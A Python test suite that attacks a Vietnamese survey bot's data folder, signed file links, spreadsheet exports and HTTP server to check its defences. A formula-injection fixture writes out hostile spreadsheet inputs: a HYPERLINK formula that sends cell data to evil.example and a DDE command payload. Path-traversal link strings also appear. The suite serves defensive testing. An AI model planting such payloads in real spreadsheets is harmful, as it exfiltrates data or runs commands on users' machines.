"""Attacks on the data folder, the file links, the exports and the HTTP server: each test is the
attack of one item of issue 16, and what must hold against it."""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from aiohttp import web
from sqlalchemy import select

from bot.app import ChatApp
from bot.files import FileLinks, _b64
from bot.web import WebServer
from core.private import SecretError, read_or_create_secret, restrict_process
from core.reports.build import build_report
from core.retention import Retention, prune_records, prune_reports
from core.storage.models import OutboxMessage, ProcessedUpdate, Unit
from scheduler.runner import Scheduler
from tests.households import ADULT, POOR, make_village_head, run_survey

# ----- item 2: link secret -----------------------------------------------------------------


def _slow_token() -> str:
    time.sleep(0.05)  # every creator passes the "no file yet" check before any of them writes
    return os.urandom(32).hex()


def _create_in_process(path: str, barrier, out) -> None:  # type: ignore[no-untyped-def]
    barrier.wait()
    out.put(read_or_create_secret(Path(path), _slow_token))


def test_concurrent_creators_end_with_one_same_non_empty_secret(tmp_path: Path) -> None:
    for round_ in range(5):
        path = tmp_path / f"t{round_}" / ".link_secret"
        barrier = threading.Barrier(16)
        keys: list[str] = []

        def create(path: Path = path, barrier: threading.Barrier = barrier, keys: list[str] = keys) -> None:
            barrier.wait()
            keys.append(read_or_create_secret(path, _slow_token))

        threads = [threading.Thread(target=create) for _ in range(16)]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        assert len(keys) == 16 and len(set(keys)) == 1 and len(keys[0]) == 64
        assert path.read_text().strip() == keys[0] and path.stat().st_mode & 0o777 == 0o600
        assert [p.name for p in path.parent.iterdir()] == [".link_secret"]  # no temporary file left

    ctx = multiprocessing.get_context("fork")
    for round_ in range(3):
        folder = tmp_path / f"p{round_}"
        barrier, out = ctx.Barrier(8), ctx.Queue()
        procs = [ctx.Process(target=_create_in_process, args=(str(folder / ".link_secret"), barrier, out))
                 for _ in range(8)]
        for p in procs:
            p.start()
        keys = [out.get(timeout=30) for _ in procs]
        for p in procs:
            p.join(10)
        assert len(set(keys)) == 1 and len(keys[0]) == 64


def test_an_empty_link_secret_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".link_secret").write_text("\n")
    with pytest.raises(SecretError, match="empty"):
        FileLinks(tmp_path, "https://bot.example")


def _signed(links: FileLinks, relative: str) -> str:
    payload = f"{int(time.time()) + 3600}:{relative}"
    return f"{_b64(payload.encode())}.{links._sign(payload)}"


def test_a_validly_signed_link_to_the_database_or_outside_is_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    (data / "reports").mkdir(parents=True)
    (data / "rasoat.db").write_bytes(b"SQLite format 3\0")
    (data / "reports" / "r.xlsx").write_bytes(b"xlsx")
    (tmp_path / "outside.txt").write_text("x")
    (data / "reports" / "db-link").symlink_to(data / "rasoat.db")
    links = FileLinks(data, "https://bot.example")
    assert links.resolve(_signed(links, "reports/r.xlsx")) == (data / "reports" / "r.xlsx").resolve()
    for relative in ("rasoat.db", "reports/../rasoat.db", "../outside.txt", ".link_secret", "reports/db-link",
                     str(data / "rasoat.db"), "uploads/../rasoat.db"):
        assert links.resolve(_signed(links, relative)) is None, relative
    with pytest.raises(ValueError):
        links.url(data / "rasoat.db")


# ----- item 5: formula injection -----------------------------------------------------------

# a name needs letters (the survey refuses «12345»), so each formula carries some
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '=1+2+"Hoa"', "+cmd|' /C calc'!A0", "@SUM(A1)"]


async def test_names_that_look_like_formulas_stay_text_in_every_list(service: ChatApp, tmp_path: Path) -> None:
    chat = await make_village_head(service)
    profile = {**POOR, "chu_ho_ten": FORMULAS[0],
               "members": [{**POOR["members"][0]}, {**ADULT, "ho_ten": FORMULAS[1]}, {**POOR["members"][2],
                                                                                      "ho_ten": FORMULAS[2]}]}
    await run_survey(service, chat, profile)
    async with service.db.read() as s:
        commune = await s.scalar(select(Unit).where(Unit.configuration == "65", Unit.code == "6202"))
        village = await s.scalar(select(Unit).where(Unit.parent_id == commune.id))
        village.name = FORMULAS[3]  # unit names come from imported CSVs: the same holds for them
        files = []
        for list_id in ("ds_ngheo", "ds_bhyt", "7.1"):
            files += await build_report(s, service.reports, list_id, commune, 2026, tmp_path / "out",
                                        service.forms, chart=False)
        await s.rollback()
    for xlsx in files:
        with zipfile.ZipFile(xlsx) as z:
            sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
            strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
        assert "<f>" not in sheets and "<f " not in sheets, xlsx.name
        texts = {_unescape(m) for m in re.findall(r"<t[^>]*>(.*?)</t>", strings + sheets, re.S)}
        expected = {"ds_ngheo": FORMULAS[:1], "ds_bhyt": FORMULAS[:3], "7_1": []}[xlsx.name.rsplit("_", 3)[0]]
        for formula in expected:
            assert formula in texts, (xlsx.name, formula)


def _unescape(text: str) -> str:
    return text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">") \
        .replace("&amp;", "&")


# ----- item 7: slow clients ----------------------------------------------------------------


async def _echo(request: web.Request) -> web.Response:
    return web.Response(text=str(len(await request.read())))


@pytest.fixture
async def served(tmp_path: Path):  # type: ignore[no-untyped-def]
    """A web server with short limits on loopback, its file links and one linked report."""
    (tmp_path / "reports").mkdir()
    report = tmp_path / "reports" / "r.xlsx"
    report.write_bytes(b"workbook")
    links = FileLinks(tmp_path, "http://127.0.0.1")
    server = WebServer("127.0.0.1", 0, links, [web.post("/echo", _echo)], header_timeout=1.0, body_timeout=1.0,
                       max_connections=40)
    port = await server.start()
    yield port, links.url(report).replace("http://127.0.0.1", f"http://127.0.0.1:{port}")
    await server.stop()


async def _closed_by_server(reader: asyncio.StreamReader, within: float) -> bool:
    try:
        return await asyncio.wait_for(reader.read(), within) is not None
    except TimeoutError:
        return False


async def test_idle_and_half_sent_connections_are_closed(served) -> None:  # type: ignore[no-untyped-def]
    port, _ = served
    conns = [await asyncio.open_connection("127.0.0.1", port) for _ in range(10)]
    for i, (_, writer) in enumerate(conns):
        if i % 2:
            writer.write(b"GET /f/x/y HTTP/1.1\r\nHost: a\r\n")  # headers never finished
            await writer.drain()
    started = time.monotonic()
    closed = await asyncio.gather(*(_closed_by_server(r, 5) for r, _ in conns))
    assert all(closed) and time.monotonic() - started < 4
    # A body that never completes gets 408 after the body timeout.
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n0123456789")
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 5)
    assert answer.startswith(b"HTTP/1.1 408")
    for _, w in [*conns, (reader, writer)]:
        w.close()


async def test_the_server_answers_while_many_idle_sockets_are_open(served) -> None:  # type: ignore[no-untyped-def]
    port, url = served
    idle = [await asyncio.open_connection("127.0.0.1", port) for _ in range(300)]
    try:
        async with httpx.AsyncClient(timeout=5) as client:
            for _ in range(5):
                response = await client.get(url)
                assert response.status_code == 200 and response.content == b"workbook"
                posted = await client.post(f"http://127.0.0.1:{port}/echo", content=b"x" * 1000)
                assert posted.text == "1000"
        alive = 0
        for reader, _ in idle:
            if not reader.at_eof():
                try:
                    await asyncio.wait_for(reader.read(1), 0.01)
                except TimeoutError:
                    alive += 1
        assert alive <= 40  # the cap: the oldest idle ones were closed to make room
    finally:
        for _, writer in idle:
            writer.close()


# ----- item 9: permissions and retention --------------------------------------------------


async def test_data_files_and_folders_are_owner_only(tmp_path: Path) -> None:
    from bot.app import build_app
    from core.config import Settings
    from core.storage.sealed import KEY_FILE

    old = restrict_process()
    data = tmp_path / "fresh"
    settings = Settings.from_env({"REVIEW_YEAR": "2026", "RASOAT_DATA_DIR": str(data)})
    service = await build_app(settings)
    try:
        chat = await make_village_head(service)
        await run_survey(service, chat, POOR)
        async with service.db.read() as s:
            commune = await s.scalar(select(Unit).where(Unit.configuration == "65", Unit.code == "6202"))
            (xlsx,) = await build_report(s, service.reports, "ds_ngheo", commune, 2026, data / "reports",
                                         service.forms)
        FileLinks(data, "https://bot.example")
        for path in (data / "rasoat.db", data / "rasoat.db-wal", data / "rasoat.db-shm", xlsx,
                     data / ".link_secret", data / KEY_FILE):
            assert path.stat().st_mode & 0o777 == 0o600, path
        for folder in (data, data / "reports"):
            assert folder.stat().st_mode & 0o777 == 0o700, folder
    finally:
        await service.db.dispose()
        os.umask(old)


def test_reports_are_deleted_once_no_link_can_be_live(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    (reports / "sub").mkdir(parents=True)
    now = time.time()
    for name, age_hours in (("old.xlsx", 25), ("sub/old.png", 30), ("new.xlsx", 23)):
        (reports / name).write_bytes(b"x")
        os.utime(reports / name, (now - age_hours * 3600, now - age_hours * 3600))
    assert prune_reports(reports, timedelta(hours=24)) == 2
    assert sorted(p.name for p in reports.rglob("*")) == ["new.xlsx"]


async def test_prune_blanks_old_replies_and_forgets_old_records(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    await db.migrate()
    now = datetime.now(UTC)
    async with db.transaction() as s:
        for uid, age in (("recent", timedelta(hours=1)), ("day3", timedelta(days=3)), ("day20", timedelta(days=20))):
            s.add(ProcessedUpdate(channel="telegram", update_id=uid, chat_id="1", at=now - age,
                                  reply=[{"text": "CCCD 020180001234"}]))
        for status, age in (("sent", 20), ("failed", 20), ("pending", 20), ("sent", 1)):
            s.add(OutboxMessage(notice_key=f"k{status}{age}", channel="telegram", chat_id="1", message={"t": "x"},
                                status=status, created_at=now - timedelta(days=age)))
    retention = Retention(tmp_path / "reports", timedelta(hours=24), timedelta(hours=48), timedelta(days=14))
    scheduler = Scheduler(db, [], {}, retention=retention)
    pruned = await scheduler.prune(now)
    assert (pruned.replies, pruned.updates, pruned.outbox) == (2, 1, 2)
    async with db.read() as s:
        rows = {r.update_id: r for r in (await s.scalars(select(ProcessedUpdate))).all()}
        assert set(rows) == {"recent", "day3"}
        assert rows["recent"].reply == [{"text": "CCCD 020180001234"}] and rows["day3"].reply is None
        left = sorted((r.status, r.notice_key) for r in (await s.scalars(select(OutboxMessage))).all())
        assert left == [("pending", "kpending20"), ("sent", "ksent1")]
    async with db.transaction() as s:
        assert (await prune_records(s, retention, now)).replies == 0  # blanked once, not every day


# ----- ID numbers and phones at rest -------------------------------------------------------


async def _raw_texts(service: ChatApp) -> list[str]:
    """Every stored answer and audit value as the database holds it (what a stolen copy shows)."""
    from sqlalchemy import text

    async with service.db.read() as s:
        rows = (await s.execute(text("SELECT CAST(value AS TEXT) FROM answers UNION ALL "
                                     "SELECT CAST(old_value AS TEXT) FROM audit_log UNION ALL "
                                     "SELECT CAST(new_value AS TEXT) FROM audit_log"))).scalars().all()
    return [r for r in rows if r]


async def test_id_numbers_and_phones_are_sealed_at_rest_and_found_by_keyed_hash(
    service: ChatApp, settings, tmp_path: Path  # type: ignore[no-untyped-def]
) -> None:
    from core.storage.models import Household
    from core.storage.repo import load_answers
    from core.storage.sealed import KEY_FILE, households_with_id_number

    chat = await make_village_head(service)
    await run_survey(service, chat, POOR)
    await run_survey(service, chat, {**POOR, "so_dien_thoai": "0987 654 321"})  # same CCCD, another household
    await run_survey(service, chat, {**POOR, "chu_ho_cccd": "020199005678"})
    raw = " ".join(await _raw_texts(service))
    for plain in ("020180001234", "020199005678", "0912345678", "912345678", "0987654321"):
        assert plain not in raw
    assert "sealed:v1:" in raw
    key_file = tmp_path / KEY_FILE
    assert key_file.stat().st_mode & 0o777 == 0o600
    assert key_file.read_text().strip().encode() not in raw.encode()
    async with service.db.read() as s:
        ids = list((await s.scalars(select(Household.id).order_by(Household.id))).all())
        answers = await load_answers(s, ids[0])
        assert answers["chu_ho_cccd"] == "020180001234" and answers["so_dien_thoai"] == "0912345678"
        assert await households_with_id_number(s, "020180001234") == ids[:2]
        assert await households_with_id_number(s, "0201 8000 1234") == ids[:2]
        assert await households_with_id_number(s, "020199005678") == ids[2:]
        assert await households_with_id_number(s, "0912345678") == []  # a phone is not an ID number
        commune = await s.scalar(select(Unit).where(Unit.configuration == "65", Unit.code == "6202"))
        (xlsx,) = await build_report(s, service.reports, "ds_bhyt", commune, 2026, tmp_path / "out",
                                     service.forms)
    from openpyxl import load_workbook

    cells = [c.value for row in load_workbook(xlsx).active.iter_rows() for c in row]
    assert "020180001234" in cells and "020199005678" in cells  # reports see plain values


async def test_rekey_rotates_the_data_key_and_seals_rows_written_before_sealing(
    service: ChatApp, settings, tmp_path: Path  # type: ignore[no-untyped-def]
) -> None:
    from cryptography.fernet import Fernet
    from sqlalchemy import update

    from core.storage.models import Answer, Household
    from core.storage.repo import load_answers
    from core.storage.sealed import (
        Sealer,
        SealError,
        households_with_id_number,
        load_keys,
        reseal_all,
        sealed_fields,
    )

    chat = await make_village_head(service)
    await run_survey(service, chat, POOR)
    async with service.db.transaction() as s:  # a row from before sealing existed
        hid = await s.scalar(select(Household.id))
        await s.execute(update(Answer).where(Answer.key == "so_dien_thoai").values(value="0912345678", lookup=None))
    old = load_keys(tmp_path, None)
    new = Fernet.generate_key()
    fields = sealed_fields(service.forms.values())
    service.db.use_sealer(Sealer((new, *old), fields))
    async with service.db.transaction() as s:
        assert await reseal_all(s) == 3  # the head's ID number, the phone, member 2's ID number
    assert "0912345678" not in " ".join(await _raw_texts(service))
    service.db.use_sealer(Sealer((new,), fields))  # the old key is gone: everything still opens
    async with service.db.read() as s:
        answers = await load_answers(s, hid)
        assert (answers["chu_ho_cccd"], answers["so_dien_thoai"]) == ("020180001234", "0912345678")
        assert await households_with_id_number(s, "020180001234") == [hid]
    service.db.use_sealer(Sealer((Fernet.generate_key(),), fields))  # a wrong key fails loudly
    async with service.db.read() as s:
        with pytest.raises(SealError):
            await load_answers(s, hid)


def test_concurrent_starts_create_one_data_key(tmp_path: Path) -> None:
    from core.storage.sealed import load_keys

    keys: list[tuple[bytes, ...]] = []
    barrier = threading.Barrier(12)

    def start() -> None:
        barrier.wait()
        keys.append(load_keys(tmp_path, None))

    threads = [threading.Thread(target=start) for _ in range(12)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert len(set(keys)) == 1 and len(keys[0]) == 1 and len(keys[0][0]) == 44


# ----- the command line: backup, restore, rekey, a read-only data folder --------------------


def _cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "bot.cli", *args], cwd=Path(__file__).parents[1], env=env,
                          capture_output=True, text=True, timeout=120)


def _cli_env(data: Path) -> dict[str, str]:
    env = {**os.environ, "RASOAT_DATA_DIR": str(data), "REVIEW_YEAR": "2026"}
    for name in ("DATABASE_URL", "RASOAT_DATA_KEY", "TELEGRAM_BOT_TOKEN", "ZALO_BOT_TOKEN"):
        env.pop(name, None)
    return env


def test_backup_restore_and_rekey_commands(tmp_path: Path) -> None:
    data = tmp_path / "data"
    env = _cli_env(data)
    assert _cli("db", "upgrade", env=env).returncode == 0
    (data / "stale.xlsx").write_bytes(b"x")
    os.chmod(data / "stale.xlsx", 0o644)  # written by an older release
    done = _cli("backup", str(tmp_path / "b.db"), env=env)
    assert done.returncode == 0, done.stderr
    assert "sao lưu" in done.stdout and (tmp_path / "b.db").stat().st_mode & 0o777 == 0o600
    assert (data / "stale.xlsx").stat().st_mode & 0o777 == 0o600 and data.stat().st_mode & 0o777 == 0o700
    restored = _cli("restore", str(tmp_path / "b.db"), env=env)
    assert restored.returncode == 0, restored.stderr
    (tmp_path / "junk.db").write_text("junk")
    refused = _cli("restore", str(tmp_path / "junk.db"), env=env)
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1 and "Traceback" not in refused.stderr
    key_before = (data / ".data_key").read_text()
    rekey = _cli("rekey", env=env)
    assert rekey.returncode == 0, rekey.stderr
    assert (data / ".data_key").read_text() != key_before
    (retired,) = data.glob(".data_key.retired-*")
    assert retired.read_text() == key_before and retired.stat().st_mode & 0o777 == 0o600
    pg = _cli("backup", str(tmp_path / "x.db"), env={**env, "DATABASE_URL": "postgresql+asyncpg://u@127.0.0.1/x"})
    assert pg.returncode == 2 and "pg_dump" in pg.stderr


def test_a_read_only_data_folder_is_said_in_one_line(tmp_path: Path) -> None:
    data = tmp_path / "ro"
    data.mkdir()
    locked = subprocess.run(["chattr", "+i", str(data)], capture_output=True).returncode == 0
    if not locked:
        if os.geteuid() == 0:
            pytest.skip("root without chattr: no way to make a read-only folder here")
        data.chmod(0o500)
    try:
        result = _cli("report", "ds_ngheo", env=_cli_env(data))
    finally:
        if locked:
            subprocess.run(["chattr", "-i", str(data)], check=True)
        data.chmod(0o700)
    assert result.returncode == 4
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert str(data) in result.stderr and "không ghi được" in result.stderr
